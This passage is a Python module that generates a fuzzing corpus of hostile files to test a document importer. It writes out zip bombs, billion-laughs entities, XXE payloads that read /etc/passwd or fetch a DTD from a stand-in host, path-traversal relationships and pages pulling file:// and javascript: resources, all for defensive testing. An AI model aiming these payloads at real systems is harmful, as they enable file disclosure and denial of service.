"""The hostile import corpus: files made to hurt ``guide.importing.import_file``.

Used by ``bench_hostile_import.py`` (the full corpus, ≥ 1,000 files) and by
``tests/test_hostile_import_smoke.py`` (``build(folder, smoke=True)``: about 30 files, none of
the slow giants). Everything is generated into the folder given (a ``tempfile`` folder; never
committed) from a fixed seed, so two runs make the same bytes (symlinks and the FIFO aside,
which point at this machine's files).

Each generator ``gen_*(ctx, n)`` writes up to ``n`` files and returns ``(category, path)``
pairs; ``GENERATORS`` lists them with their full and smoke counts. The real import fixtures
(``tests/fixtures/import/``) are the material for the truncated and bit-flipped files and the
controls that must still import.
"""

from __future__ import annotations

import gzip
import io
import os
import random
import struct
import sys
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path

REPO = Path(__file__).resolve().parent.parent
FIXTURES = REPO / "tests" / "fixtures" / "import"
SEED = 13_2026
SUPPORTED = (".txt", ".md", ".markdown", ".html", ".htm", ".pdf", ".docx")
UNSUPPORTED = (".doc", ".exe", ".rtf", ".odt", ".json", "")
CAP = 25 * 1024 * 1024  # Limits().max_file_bytes
MB = 1024 * 1024

_WORD_TEXT = (
    "siswa guru karier jurusan kerja pekerjaan gaji perawat pilot desainer analis data "
    "sekolah kuliah magang keterampilan wawancara lamaran perusahaan industri teknik "
    "komputer jaringan akuntansi tata boga kesehatan rumah sakit pelatihan sertifikat "
    "pengalaman tanggung jawab komunikasi kerja sama belajar masa depan peluang"
)
WORDS = _WORD_TEXT.split()
W_NS = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"


@dataclass
class Ctx:
    """Where files go, the shared random generator, and the names already used."""

    out: Path
    rng: random.Random
    used: set[str] = field(default_factory=set)
    outside: Path | None = None  # a folder beside the corpus, for symlink targets

    def put(self, name: str, data: bytes) -> Path:
        stem, dot, ext = name.rpartition(".")
        base, i = name, 1
        while base in self.used:
            i += 1
            base = f"{stem}-{i}.{ext}" if dot else f"{name}-{i}"
        self.used.add(base)
        path = self.out / base
        path.write_bytes(data)
        return path


# -- material --------------------------------------------------------------------------------


def sentence(rng: random.Random, words: int = 12) -> str:
    text = " ".join(rng.choice(WORDS) for _ in range(words))
    return text[:1].upper() + text[1:] + "."


def paragraphs(rng: random.Random, n: int) -> list[str]:
    return [" ".join(sentence(rng, rng.randint(6, 16)) for _ in range(3)) for _ in range(n)]


def fixture(name: str) -> bytes:
    return (FIXTURES / name).read_bytes()


def real_pdfs() -> list[tuple[str, bytes]]:
    names = ("panduan-jurusan.pdf", "brosur-pindaian.pdf", "rahasia.pdf")
    return [(n, fixture(n)) for n in names]


def real_docx() -> bytes:
    return fixture("lembar-kerja-perawat.docx")


def xml_escape(text: str) -> str:
    return text.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")


def w_par(text: str) -> str:
    return f"<w:p><w:r><w:t>{xml_escape(text)}</w:t></w:r></w:p>"


def document_xml(body: str, prolog: str = "") -> str:
    return (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
        f'{prolog}<w:document xmlns:w="{W_NS}"><w:body>{body}</w:body></w:document>'
    )


CONTENT_TYPES = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="rels" '
    'ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    '<Default Extension="xml" ContentType="application/xml"/>'
    '<Override PartName="/word/document.xml" ContentType="application/'
    'vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/>'
    "</Types>"
)
PACKAGE_RELS = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
    'relationships/officeDocument" Target="word/document.xml"/>'
    "</Relationships>"
)


def make_docx(
    document: bytes | str,
    extra: dict[str, bytes | str] | None = None,
    *,
    content_types: bytes | str = CONTENT_TYPES,
    package_rels: bytes | str = PACKAGE_RELS,
) -> bytes:
    """A minimal .docx zip (python-docx opens it) around ``document`` (word/document.xml)."""
    members: dict[str, bytes | str] = {
        "[Content_Types].xml": content_types,
        "_rels/.rels": package_rels,
        "word/document.xml": document,
        **(extra or {}),
    }
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as zf:
        for name, data in members.items():
            zf.writestr(name, data.encode("utf-8") if isinstance(data, str) else data)
    return buf.getvalue()


def simple_docx(rng: random.Random, paras: int = 4) -> bytes:
    return make_docx(document_xml("".join(w_par(p) for p in paragraphs(rng, paras))))


def pdf_file(objects: list[bytes], root: int = 1, trailer_extra: bytes = b"") -> bytes:
    """A PDF from numbered objects (1-based) with a correct xref table."""
    out = io.BytesIO()
    out.write(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for i, body in enumerate(objects, start=1):
        offsets.append(out.tell())
        out.write(b"%d 0 obj\n" % i + body + b"\nendobj\n")
    xref = out.tell()
    out.write(b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1))
    for off in offsets:
        out.write(b"%010d 00000 n \n" % off)
    out.write(
        b"trailer\n<< /Size %d /Root %d 0 R %s>>\nstartxref\n%d\n%%%%EOF\n"
        % (len(objects) + 1, root, trailer_extra, xref)
    )
    return out.getvalue()


def pdf_stream(data: bytes, extra: bytes = b"", compress: bool = False) -> bytes:
    if compress:
        data = zlib.compress(data, 9)
        extra += b" /Filter /FlateDecode"
    return b"<< /Length %d%s >>\nstream\n" % (len(data), extra) + data + b"\nendstream"


def text_content(lines: list[str]) -> bytes:
    ops = [b"BT /F1 11 Tf 50 780 Td 14 TL"]
    for line in lines:
        safe = line.encode("latin-1", "replace").replace(b"\\", b"").replace(b"(", b"")
        ops.append(b"(" + safe.replace(b")", b"") + b") Tj T*")
    ops.append(b"ET")
    return b"\n".join(ops)


def text_pdf(
    rng: random.Random,
    catalog_extra: bytes = b"",
    page_extra: bytes = b"",
    more: list[bytes] | None = None,
) -> bytes:
    """A one-page PDF with real text; ``catalog_extra``/``page_extra`` go into those dicts,
    ``more`` are extra objects numbered from 6."""
    lines = [sentence(rng, 8) for _ in range(12)]
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R " + catalog_extra + b">>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R "
        b"/Resources << /Font << /F1 5 0 R >> >> " + page_extra + b">>",
        pdf_stream(text_content(lines)),
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
        *(more or []),
    ]
    return pdf_file(objects)


# -- generators ------------------------------------------------------------------------------

Made = list[tuple[str, Path]]


def gen_controls(ctx: Ctx, n: int) -> Made:
    """The real fixtures (they must still import, or be refused for their own reason)."""
    names = sorted(p.name for p in FIXTURES.iterdir() if p.suffix.lower() in SUPPORTED)
    return [("control (real fixture)", ctx.put(name, fixture(name))) for name in names[:n]]


def gen_empty(ctx: Ctx, n: int) -> Made:
    exts = [*SUPPORTED, ".PDF", ".DOCX", ".Md", *UNSUPPORTED]
    made = [("empty", ctx.put(f"kosong{ext}", b"")) for ext in exts[:n]]
    if n > len(exts):  # whitespace only, a lone BOM: "empty" after decoding
        made.append(("empty", ctx.put("spasi.txt", b" \n\t\r\n " * 100)))
        made.append(("empty", ctx.put("bom-saja.md", b"\xef\xbb\xbf")))
        made.append(("empty", ctx.put("bom16-saja.txt", b"\xff\xfe")))
        made.append(("empty", ctx.put("html-kosong.html", b"<html><body></body></html>")))
        made.append(("empty", ctx.put("docx-kosong.docx", make_docx(document_xml("")))))
    return made


def _random_payload(rng: random.Random, variant: int) -> bytes:
    size = rng.choice((1, 2, 7, 100, 1000, 4096, 20_000, 65_536, 300_000))
    if variant == 0:  # raw random bytes
        return rng.randbytes(size)
    if variant == 1:  # printable ASCII junk
        return bytes(rng.randrange(32, 127) for _ in range(min(size, 20_000)))
    if variant == 2:  # random Unicode text, UTF-8
        chars = [
            chr(rng.choice((rng.randrange(32, 0x2FF), rng.randrange(0x370, 0xD7FF))))
            for _ in range(min(size, 20_000))
        ]
        return "".join(chars).encode("utf-8", "replace")
    if variant == 3:  # a magic number, then random bytes
        magic = rng.choice(
            (
                b"%PDF-1.7\n",
                b"PK\x03\x04",
                b"PK\x05\x06",
                b"MZ",
                b"\x7fELF",
                b"\x89PNG\r\n\x1a\n",
                b"\xd0\xcf\x11\xe0",
                b"\x1f\x8b",
                b"<html>",
                b"\xef\xbb\xbf",
                b"\xff\xfe",
                b"<?xml ",
            )
        )
        return magic + rng.randbytes(size)
    # words and random bytes interleaved
    parts = []
    for _ in range(max(1, size // 200)):
        parts.append(sentence(rng).encode() if rng.random() < 0.6 else rng.randbytes(40))
    return b"\n".join(parts)


def gen_random(ctx: Ctx, n: int) -> Made:
    """``n`` random files per supported extension (5 kinds of randomness), and a few of
    each unsupported one."""
    made: Made = []
    for ext in SUPPORTED:
        for i in range(n):
            made.append(
                ("random bytes", ctx.put(f"acak-{i:03d}{ext}", _random_payload(ctx.rng, i % 5)))
            )
    for ext in UNSUPPORTED if n >= 15 else UNSUPPORTED[:1]:
        for i in range(max(1, n // 15)):
            data = _random_payload(ctx.rng, i % 5)
            made.append(("unsupported extension", ctx.put(f"acak-{i:03d}{ext}", data)))
    return made


def _cuts(rng: random.Random, length: int, n: int) -> list[int]:
    fixed = [1, 4, 5, 8, 16, 100, length // 2, length - 1, length - 20]
    cuts = fixed + [rng.randrange(1, length) for _ in range(max(0, n - len(fixed)))]
    return [c for c in cuts if 0 < c < length][:n]


def gen_truncated_pdf(ctx: Ctx, n: int) -> Made:
    made: Made = []
    for name, data in real_pdfs():
        for cut in _cuts(ctx.rng, len(data), n):
            path = ctx.put(f"potong-{cut:05d}-{name}", data[:cut])
            made.append(("truncated PDF", path))
    return made


def gen_truncated_docx(ctx: Ctx, n: int) -> Made:
    data = real_docx()
    made = [
        ("truncated docx", ctx.put(f"potong-{cut:05d}.docx", data[:cut]))
        for cut in _cuts(ctx.rng, len(data), n)
    ]
    # the same cuts of a docx renamed .md/.txt (a zip that is not text)
    for cut in _cuts(ctx.rng, len(data), max(1, n // 10)):
        made.append(("truncated docx", ctx.put(f"potong-{cut:05d}-zip.txt", data[:cut])))
    return made


def _flip(rng: random.Random, data: bytes, flips: int) -> bytes:
    buf = bytearray(data)
    for _ in range(flips):
        buf[rng.randrange(len(buf))] = rng.randrange(256)
    return bytes(buf)


def gen_bitflip(ctx: Ctx, n: int) -> Made:
    """Real PDFs and the real docx with a few random bytes changed (parsers see almost-valid
    structure)."""
    made: Made = []
    for name, data in [*real_pdfs(), ("lembar-kerja-perawat.docx", real_docx())]:
        for i in range(n):
            flipped = _flip(ctx.rng, data, ctx.rng.choice((1, 3, 10, 50)))
            made.append(("bit-flipped PDF/docx", ctx.put(f"rusak-{i:03d}-{name}", flipped)))
    return made


def _patch_sizes(data: bytes, member: str, size: int) -> bytes:
    """Rewrite the uncompressed size of ``member`` in its local header and central entry."""
    buf = bytearray(data)
    encoded = member.encode()
    for sig, size_at, name_len_at, name_at in (
        (b"PK\x03\x04", 22, 26, 30),
        (b"PK\x01\x02", 24, 28, 46),
    ):
        pos = 0
        while (pos := buf.find(sig, pos)) >= 0:
            (name_len,) = struct.unpack_from("<H", buf, pos + name_len_at)
            if bytes(buf[pos + name_at : pos + name_at + name_len]) == encoded:
                struct.pack_into("<I", buf, pos + size_at, size)
            pos += 4
    return bytes(buf)


def _inflating_docx(ctx: Ctx, body_bytes: int, filler: bytes = b" ") -> bytes:
    """A docx whose document.xml really inflates to ``body_bytes`` of ``filler``."""
    head = document_xml("").split("<w:body>")[0].encode() + b"<w:body>" + w_par("Judul").encode()
    tail = b"</w:body></w:document>"
    comp = zlib.compressobj(9, zlib.DEFLATED, -15)
    chunks = [comp.compress(head)]
    block = filler * (MB // len(filler))
    left = body_bytes
    while left > 0:
        piece = block[: min(left, len(block))]
        chunks.append(comp.compress(piece))
        left -= len(piece)
    chunks.append(comp.compress(tail))
    chunks.append(comp.flush())
    raw = b"".join(chunks)
    crc = zlib.crc32(head)
    left = body_bytes
    while left > 0:
        piece = block[: min(left, len(block))]
        crc = zlib.crc32(piece, crc)
        left -= len(piece)
    crc = zlib.crc32(tail, crc)
    size = len(head) + body_bytes + len(tail)
    small = make_docx(b"<x/>")  # the other members, then document.xml by hand
    buf = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(small)) as src, zipfile.ZipFile(buf, "w") as zf:
        for info in src.infolist():
            if info.filename != "word/document.xml":
                zf.writestr(info, src.read(info))
        info = zipfile.ZipInfo("word/document.xml")
        info.compress_type = zipfile.ZIP_DEFLATED
        zf.writestr(info, b"")  # a placeholder: zipfile cannot write a pre-deflated stream
    data = buf.getvalue()
    return _splice_member(data, "word/document.xml", raw, crc, size)


def _splice_member(data: bytes, member: str, raw: bytes, crc: int, size: int) -> bytes:
    """Replace ``member``'s (empty, deflated) stream with ``raw`` and fix the headers."""
    zf = zipfile.ZipFile(io.BytesIO(data))
    out = io.BytesIO()
    central = []
    for info in zf.infolist():
        if info.filename == member:
            payload, c_size, u_size, crc_ = raw, len(raw), size, crc
        else:
            payload = data[info.header_offset :]
            lh = struct.unpack_from("<4s5H3I2H", payload)
            start = 30 + lh[9] + lh[10]
            payload = payload[start : start + info.compress_size]
            c_size, u_size, crc_ = info.compress_size, info.file_size, info.CRC
        name = info.filename.encode()
        offset = out.tell()
        method = info.compress_type
        out.write(
            struct.pack(
                "<4s5H3I2H",
                b"PK\x03\x04",
                20,
                0,
                method,
                0,
                0,
                crc_ & 0xFFFFFFFF,
                c_size,
                min(u_size, 0xFFFFFFFF),
                len(name),
                0,
            )
        )
        out.write(name)
        out.write(payload)
        central.append((name, method, crc_, c_size, u_size, offset))
    cd_start = out.tell()
    for name, method, crc_, c_size, u_size, offset in central:
        out.write(
            struct.pack(
                "<4s6H3I5H2I",
                b"PK\x01\x02",
                20,
                20,
                0,
                method,
                0,
                0,
                crc_ & 0xFFFFFFFF,
                c_size,
                min(u_size, 0xFFFFFFFF),
                len(name),
                0,
                0,
                0,
                0,
                0,
                offset,
            )
        )
        out.write(name)
    cd_size = out.tell() - cd_start
    out.write(
        struct.pack(
            "<4s4H2IH", b"PK\x05\x06", 0, 0, len(central), len(central), cd_size, cd_start, 0
        )
    )
    return out.getvalue()


def _many_members(count: int, name_prefix: str = "word/media/x") -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_STORED) as zf:
        zf.writestr("[Content_Types].xml", CONTENT_TYPES)
        zf.writestr("_rels/.rels", PACKAGE_RELS)
        zf.writestr("word/document.xml", document_xml(w_par("Banyak bagian.")))
        for i in range(count):
            zf.writestr(f"{name_prefix}{i}.bin", b"")
    return buf.getvalue()


def gen_zip_bombs(ctx: Ctx, n: int) -> Made:
    """Declared-huge, really-huge, lying-small and many-member .docx files."""
    made: Made = []
    base = simple_docx(ctx.rng)
    made.append(
        (
            "zip bomb",
            ctx.put("bom-deklarasi-4gb.docx", _patch_sizes(base, "word/document.xml", 0xFFFF_FFF0)),
        )
    )
    if n <= 2:  # smoke: the cheap ones
        made.append(("zip bomb", ctx.put("bom-2001-bagian.docx", _many_members(2_001))))
        return made
    made.append(("zip bomb", ctx.put("bom-nyata-300mb.docx", _inflating_docx(ctx, 300 * MB))))
    lying = _inflating_docx(ctx, 300 * MB)
    made.append(
        (
            "zip bomb",
            ctx.put("bom-bohong-kecil.docx", _patch_sizes(lying, "word/document.xml", 1_000)),
        )
    )
    made.append(("zip bomb", ctx.put("bom-95mb-spasi.docx", _inflating_docx(ctx, 95 * MB))))
    made.append(("zip bomb", ctx.put("bom-95mb-nol.docx", _inflating_docx(ctx, 95 * MB, b"\0"))))
    made.append(("zip bomb", ctx.put("bom-100000-bagian.docx", _many_members(100_000))))
    made.append(("zip bomb", ctx.put("bom-1999-bagian.docx", _many_members(1_996))))
    # a member over 4 GB declared needs zip64: the declared total alone must refuse it
    made.append(
        (
            "zip bomb",
            ctx.put(
                "bom-zip-dalam-zip.docx",
                make_docx(document_xml(w_par("Isi.")), {"word/embeddings/x.zip": lying}),
            ),
        )
    )
    # 90 MB of text in one paragraph: under the zip cap, over the text cap
    text_para = b"<w:p><w:r><w:t>" + b"kerja " * (15 * MB // 6) + b"</w:t></w:r></w:p>"
    doc = document_xml("PLACE").encode().replace(b"PLACE", text_para)
    made.append(("zip bomb", ctx.put("bom-teks-15mb.docx", make_docx(doc))))
    return made


BILLION_LAUGHS = (
    '<!DOCTYPE lolz [<!ENTITY lol "lol">'
    + "".join(
        f'<!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">'
        for i in range(1, 10)
    )
    + "]>"
)
XXE_FILE = '<!DOCTYPE d [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
XXE_HTTP = '<!DOCTYPE d [<!ENTITY xxe SYSTEM "http://192.0.2.1/xxe">]>'
XXE_PARAM = '<!DOCTYPE d [<!ENTITY % p SYSTEM "http://192.0.2.1/evil.dtd"> %p;]>'
XXE_DTD = '<!DOCTYPE d SYSTEM "file:///etc/passwd">'


def _xml_attack(prolog: str, ref: str, encoding: str = "utf-8") -> bytes:
    xml = document_xml(w_par("Artikel biasa.") + f"<w:p><w:r><w:t>{ref}</w:t></w:r></w:p>", prolog)
    if encoding != "utf-8":
        xml = xml.replace('encoding="UTF-8"', f'encoding="{encoding.upper()}"')
        return xml.encode(encoding)
    return xml.encode()


def gen_xml_attacks(ctx: Ctx, n: int) -> Made:
    """Billion laughs and XXE (file:///etc/passwd, http://, parameter entity, external DTD,
    XInclude) in word/document.xml, core.xml, [Content_Types].xml and rels; ASCII and UTF-16
    (a byte regex looking for "<!DOCTYPE" does not see UTF-16)."""
    attacks = [
        ("laughs", BILLION_LAUGHS, "&lol9;"),
        ("xxe-file", XXE_FILE, "&xxe;"),
        ("xxe-http", XXE_HTTP, "&xxe;"),
        ("xxe-param", XXE_PARAM, "x"),
        ("dtd-external", XXE_DTD, "x"),
    ]
    made: Made = []
    for encoding in ("utf-8", "utf-16", "utf-16-be"):
        for label, prolog, ref in attacks:
            doc = _xml_attack(prolog, ref, encoding)
            path = ctx.put(f"xml-{label}-{encoding}.docx", make_docx(doc))
            made.append(("XML entities (docx)", path))
            if len(made) >= n:
                return made
    core = (
        '<?xml version="1.0" encoding="UTF-8"?>'
        + XXE_FILE
        + '<cp:coreProperties xmlns:cp="http://schemas.openxmlformats.org/package/2006/'
        'metadata/core-properties" xmlns:dc="http://purl.org/dc/elements/1.1/">'
        "<dc:title>&xxe;</dc:title></cp:coreProperties>"
    )
    ct_core = CONTENT_TYPES.replace(
        "</Types>",
        '<Override PartName="/docProps/core.xml" '
        'ContentType="application/vnd.openxmlformats-package.'
        'core-properties+xml"/></Types>',
    )
    rels_core = PACKAGE_RELS.replace(
        "</Relationships>",
        '<Relationship Id="rId2" Type="http://'
        "schemas.openxmlformats.org/package/2006/relationships/"
        'metadata/core-properties" Target="docProps/core.xml"/>'
        "</Relationships>",
    )
    for encoding in ("utf-8", "utf-16"):
        body = document_xml(w_par("Artikel dengan properti berbahaya."))
        core_bytes = (
            core.encode()
            if encoding == "utf-8"
            else core.replace('encoding="UTF-8"', 'encoding="UTF-16"').encode("utf-16")
        )
        data = make_docx(
            body, {"docProps/core.xml": core_bytes}, content_types=ct_core, package_rels=rels_core
        )
        made.append(("XML entities (docx)", ctx.put(f"xml-core-xxe-{encoding}.docx", data)))
    ct_attack = CONTENT_TYPES.replace("?>\n", "?>\n" + BILLION_LAUGHS)
    made.append(
        (
            "XML entities (docx)",
            ctx.put(
                "xml-laughs-contenttypes.docx",
                make_docx(document_xml(w_par("Isi.")), content_types=ct_attack),
            ),
        )
    )
    xinclude = document_xml(
        w_par("Isi.") + '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" '
        'href="file:///etc/passwd" parse="text"/>'
    )
    made.append(("XML entities (docx)", ctx.put("xml-xinclude.docx", make_docx(xinclude))))
    ext_rels = (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        '<Relationship Id="rId9" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
        'relationships/image" Target="file:///etc/passwd" TargetMode="External"/>'
        '<Relationship Id="rId8" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
        'relationships/attachedTemplate" Target="http://192.0.2.1/t.dotm" '
        'TargetMode="External"/>'
        '<Relationship Id="rId7" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
        'relationships/styles" Target="../../../../../../etc/passwd"/>'
        "</Relationships>"
    )
    data = make_docx(
        document_xml(w_par("Artikel dengan relasi luar.")),
        {"word/_rels/document.xml.rels": ext_rels},
    )
    made.append(("XML entities (docx)", ctx.put("xml-relasi-luar.docx", data)))
    return made[:n]


def _nested_html_table(depth: int, rng: random.Random) -> str:
    inner = f"<p>{sentence(rng)}</p>"
    for d in range(depth):
        inner = f"<table><tr><td>sel {d}</td><td>{inner}</td></tr></table>"
    return inner


def _nested_docx_table(depth: int, rng: random.Random) -> str:
    inner = w_par(sentence(rng))
    for d in range(depth):
        inner = (
            f"<w:tbl><w:tr><w:tc>{w_par(f'sel {d}')}</w:tc><w:tc>{inner}"
            f"{w_par('')}</w:tc></w:tr></w:tbl>"
        )
    return inner


def gen_nesting(ctx: Ctx, n: int) -> Made:
    """40-deep nested tables in HTML and docx; deeper element nesting; deep Markdown."""
    rng = ctx.rng
    intro = "".join(f"<p>{p}</p>" for p in paragraphs(rng, 3))
    made: Made = [
        (
            "nested tables",
            ctx.put(
                "tabel-40-lapis.html",
                f"<html><body>{intro}{_nested_html_table(40, rng)}</body></html>".encode(),
            ),
        ),
        (
            "nested tables",
            ctx.put(
                "tabel-40-lapis.docx",
                make_docx(document_xml(w_par("Tabel bersarang.") + _nested_docx_table(40, rng))),
            ),
        ),
    ]
    if n <= 2:
        return made
    made += [
        (
            "nested tables",
            ctx.put(
                "tabel-200-lapis.html",
                f"<html><body>{intro}{_nested_html_table(200, rng)}</body></html>".encode(),
            ),
        ),
        (
            "nested tables",
            ctx.put("tabel-300-lapis.docx", make_docx(document_xml(_nested_docx_table(300, rng)))),
        ),
        (
            "deep nesting",
            ctx.put(
                "div-5000-lapis.html",
                (intro + "<div>" * 5000 + "teks dalam" + "</div>" * 5000).encode(),
            ),
        ),
        (
            "deep nesting",
            ctx.put(
                "b-100000-lapis.htm", (intro + "<b>" * 100_000 + "teks" + "</b>" * 100_000).encode()
            ),
        ),
        (
            "deep nesting",
            ctx.put(
                "li-3000-lapis.html",
                (intro + "<ul><li>" * 3000 + "butir" + "</li></ul>" * 3000).encode(),
            ),
        ),
        (
            "deep nesting",
            ctx.put(
                "quote-900-lapis.html",
                (intro + "<blockquote>" * 900 + "kutip" + "</blockquote>" * 900).encode(),
            ),
        ),
        (
            "deep nesting",
            ctx.put(
                "docx-p-dalam-5000-lapis.docx",
                make_docx(
                    document_xml(
                        w_par("Isi.")
                        + "<w:sdt><w:sdtContent>" * 5000
                        + w_par("dalam")
                        + "</w:sdtContent></w:sdt>" * 5000
                    )
                ),
            ),
        ),
    ]
    md_cases = {
        "md-kutipan-5000.md": "> " * 5000 + "kutipan dalam\n",
        "md-daftar-1000.md": "".join("  " * i + "- butir\n" for i in range(1000)),
        "md-daftar-angka-1000.markdown": "".join("   " * i + "1. butir\n" for i in range(1000)),
        "md-kurung-50000.md": "[" * 50_000 + "teks" + "]" * 50_000 + "\n",
        "md-bintang-100000.md": "*a " * 100_000 + "\n",
        "md-tautan-40000.md": "[a](" * 40_000 + "\n",
        "md-backtick-50000.md": "`" * 50_000 + "a" + "`" * 49_999 + "\n",
        "md-tabel-20000-kolom.md": "|" + "a|" * 20_000 + "\n|" + "-|" * 20_000 + "\n",
        "md-front-matter-toml-dalam.md": "+++\na = "
        + "[" * 20_000
        + "]" * 20_000
        + "\n+++\n# Judul\nIsi.\n",
        "md-front-matter-tanpa-akhir.md": "---\ntitle: x\n" + "k: v\n" * 200_000,
        "md-gambar-file.md": "# Judul\n\n![x](file:///etc/passwd) ![y](http://192.0.2.1/a.png)\n\n"
        "<img src='file:///etc/passwd'><script src='http://192.0.2.1/x.js'></script>\n\n"
        "[ref]: file:///etc/shadow\n\nTeks artikel biasa tentang karier perawat.\n",
    }
    for name, text in md_cases.items():
        made.append(("deep Markdown", ctx.put(name, text.encode())))
    return made[:n]


def gen_huge(ctx: Ctx, n: int) -> Made:
    """Huge single lines, a 30 MB text (over the 25 MB cap), and files at and under the cap."""
    rng = ctx.rng
    line = " ".join(rng.choice(WORDS) for _ in range(200)).encode()
    made: Made = []
    if n < 3:  # smoke: one line of 1 MB and a file just over a small share of the cap
        made.append(("huge lines", ctx.put("baris-1mb.txt", (line + b" ") * (MB // len(line)))))
        return made
    five = (line + b" ") * (5 * MB // (len(line) + 1))
    made.append(("huge lines", ctx.put("baris-5mb.txt", five)))
    made.append(("huge lines", ctx.put("baris-5mb.md", five)))
    made.append(("huge lines", ctx.put("baris-5mb.html", b"<html><body><p>" + five + b"</p>")))
    made.append(
        ("huge lines", ctx.put("baris-5mb-cp1252.txt", five.replace(b"a", b"\xe9", 1000) + b"\xe9"))
    )
    made.append(("huge lines", ctx.put("baris-5mb-tanpa-spasi.txt", b"x" * (5 * MB))))
    text = "\n\n".join(paragraphs(rng, 400)).encode() + b"\n\n"
    big = (text * (30 * MB // len(text) + 1))[: 30 * MB]
    made.append(("over/at the size cap", ctx.put("teks-30mb.txt", big)))
    made.append(("over/at the size cap", ctx.put("teks-tepat-25mb.txt", big[:CAP])))
    made.append(("over/at the size cap", ctx.put("teks-25mb-kurang-1.txt", big[: CAP - 1])))
    made.append(("over/at the size cap", ctx.put("teks-25mb-kurang-1.md", big[: CAP - 1])))
    made.append(("over/at the size cap", ctx.put("teks-1.9jt-karakter.txt", big[:1_900_000])))
    made.append(
        (
            "over/at the size cap",
            ctx.put(
                "html-24mb.html",
                b"<html><body>" + b"<p>kerja</p>" * (24 * MB // 12) + b"</body></html>",
            ),
        )
    )
    return made[: max(n, 3)]


RESOURCE_HTML = """<!DOCTYPE html SYSTEM "file:///etc/passwd">
<html><head>
<meta charset="utf-8"><title>Profesi Analis Data | Situs</title>
<meta http-equiv="refresh" content="0; url={u}/refresh">
<base href="{u}/base/">
<link rel="stylesheet" href="{u}/style.css"><link rel="import" href="{u}/imp.html">
<link rel="preload" href="{u}/font.woff2">
<script src="{u}/app.js"></script><script>fetch('{u}/x')</script>
<style>@import url("{u}/imp.css"); body {{ background: url('{u}/bg.png') }}</style>
<?xml-stylesheet href="{u}/x.xsl"?>
</head><body style="background-image:url({u}/body.png)">
<iframe src="{u}/frame.html"></iframe><object data="{u}/o.swf"></object>
<embed src="{u}/e.swf"><video poster="{u}/p.png" src="{u}/v.mp4"></video>
<svg><image xlink:href="{u}/s.png" href="{u}/s.png"/><use href="{u}/u.svg#a"/></svg>
<article><h1>Profesi Analis Data</h1>
<img src="{u}/foto.png" srcset="{u}/a.png 1x, {u}/b.png 2x">
{paras}
<p style="background:url({u}/p.png)">Analis data membaca angka untuk perusahaan.</p>
<a href="{u}/tautan">tautan</a>
</article></body></html>"""


def gen_html_resources(ctx: Ctx, n: int) -> Made:
    """Saved pages full of file://, http:// and UNC resources (img, link, script, iframe,
    CSS url(), @import, meta refresh, base, object, svg, DOCTYPE SYSTEM)."""
    made: Made = []
    for label, u in (
        ("file", "file:///etc/passwd#"),
        ("http", "http://192.0.2.1"),
        ("https", "https://example.invalid"),
        ("unc", "\\\\192.0.2.1\\share"),
        ("relatif", "../../../../../../etc"),
        ("data", "data:text/html,x"),
        ("js", "javascript:alert(1)//"),
    ):
        paras = "".join(f"<p>{p}</p>" for p in paragraphs(ctx.rng, 4))
        for ext in (".html", ".htm"):
            page = RESOURCE_HTML.format(u=u, paras=paras).encode()
            made.append(("HTML resources", ctx.put(f"sumber-{label}{ext}", page)))
    entity = (
        '<!DOCTYPE html [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><html><body>'
        "<article><h1>Judul</h1><p>&xxe;</p>"
        + "<p>Isi artikel yang cukup panjang.</p>" * 5
        + "</article></body></html>"
    )
    made.append(("HTML resources", ctx.put("sumber-entitas.html", entity.encode())))
    xhtml = (
        '<?xml version="1.0"?>' + BILLION_LAUGHS + '<html xmlns="http://www.w3.org/1999/'
        'xhtml"><body><p>&lol9;</p><p>Isi artikel tentang perawat.</p></body></html>'
    )
    made.append(("HTML resources", ctx.put("sumber-tawa-miliar.html", xhtml.encode())))
    return made[:n]


def gen_encodings(ctx: Ctx, n: int) -> Made:
    """cp1252 in .md, UTF-16/32 without BOM, mixed encodings, odd <meta charset> values."""
    rng = ctx.rng
    text = (
        "# Karier Perawat\n\n" + "\n\n".join(paragraphs(rng, 5)) + "\n\nCafé – “kutipan” naïve €5\n"
    )
    made: Made = []
    for ext in (".md", ".txt", ".html"):
        made.append(("wrong encodings", ctx.put(f"cp1252{ext}", text.encode("cp1252"))))
        made.append(
            ("wrong encodings", ctx.put(f"utf16le-tanpa-bom{ext}", text.encode("utf-16-le")))
        )
        made.append(
            ("wrong encodings", ctx.put(f"utf16be-tanpa-bom{ext}", text.encode("utf-16-be")))
        )
        made.append(("wrong encodings", ctx.put(f"utf32-tanpa-bom{ext}", text.encode("utf-32-le"))))
        mixed = text.encode("utf-8") + text.encode("cp1252") + text.encode("latin-1", "replace")
        made.append(("wrong encodings", ctx.put(f"campur{ext}", mixed)))
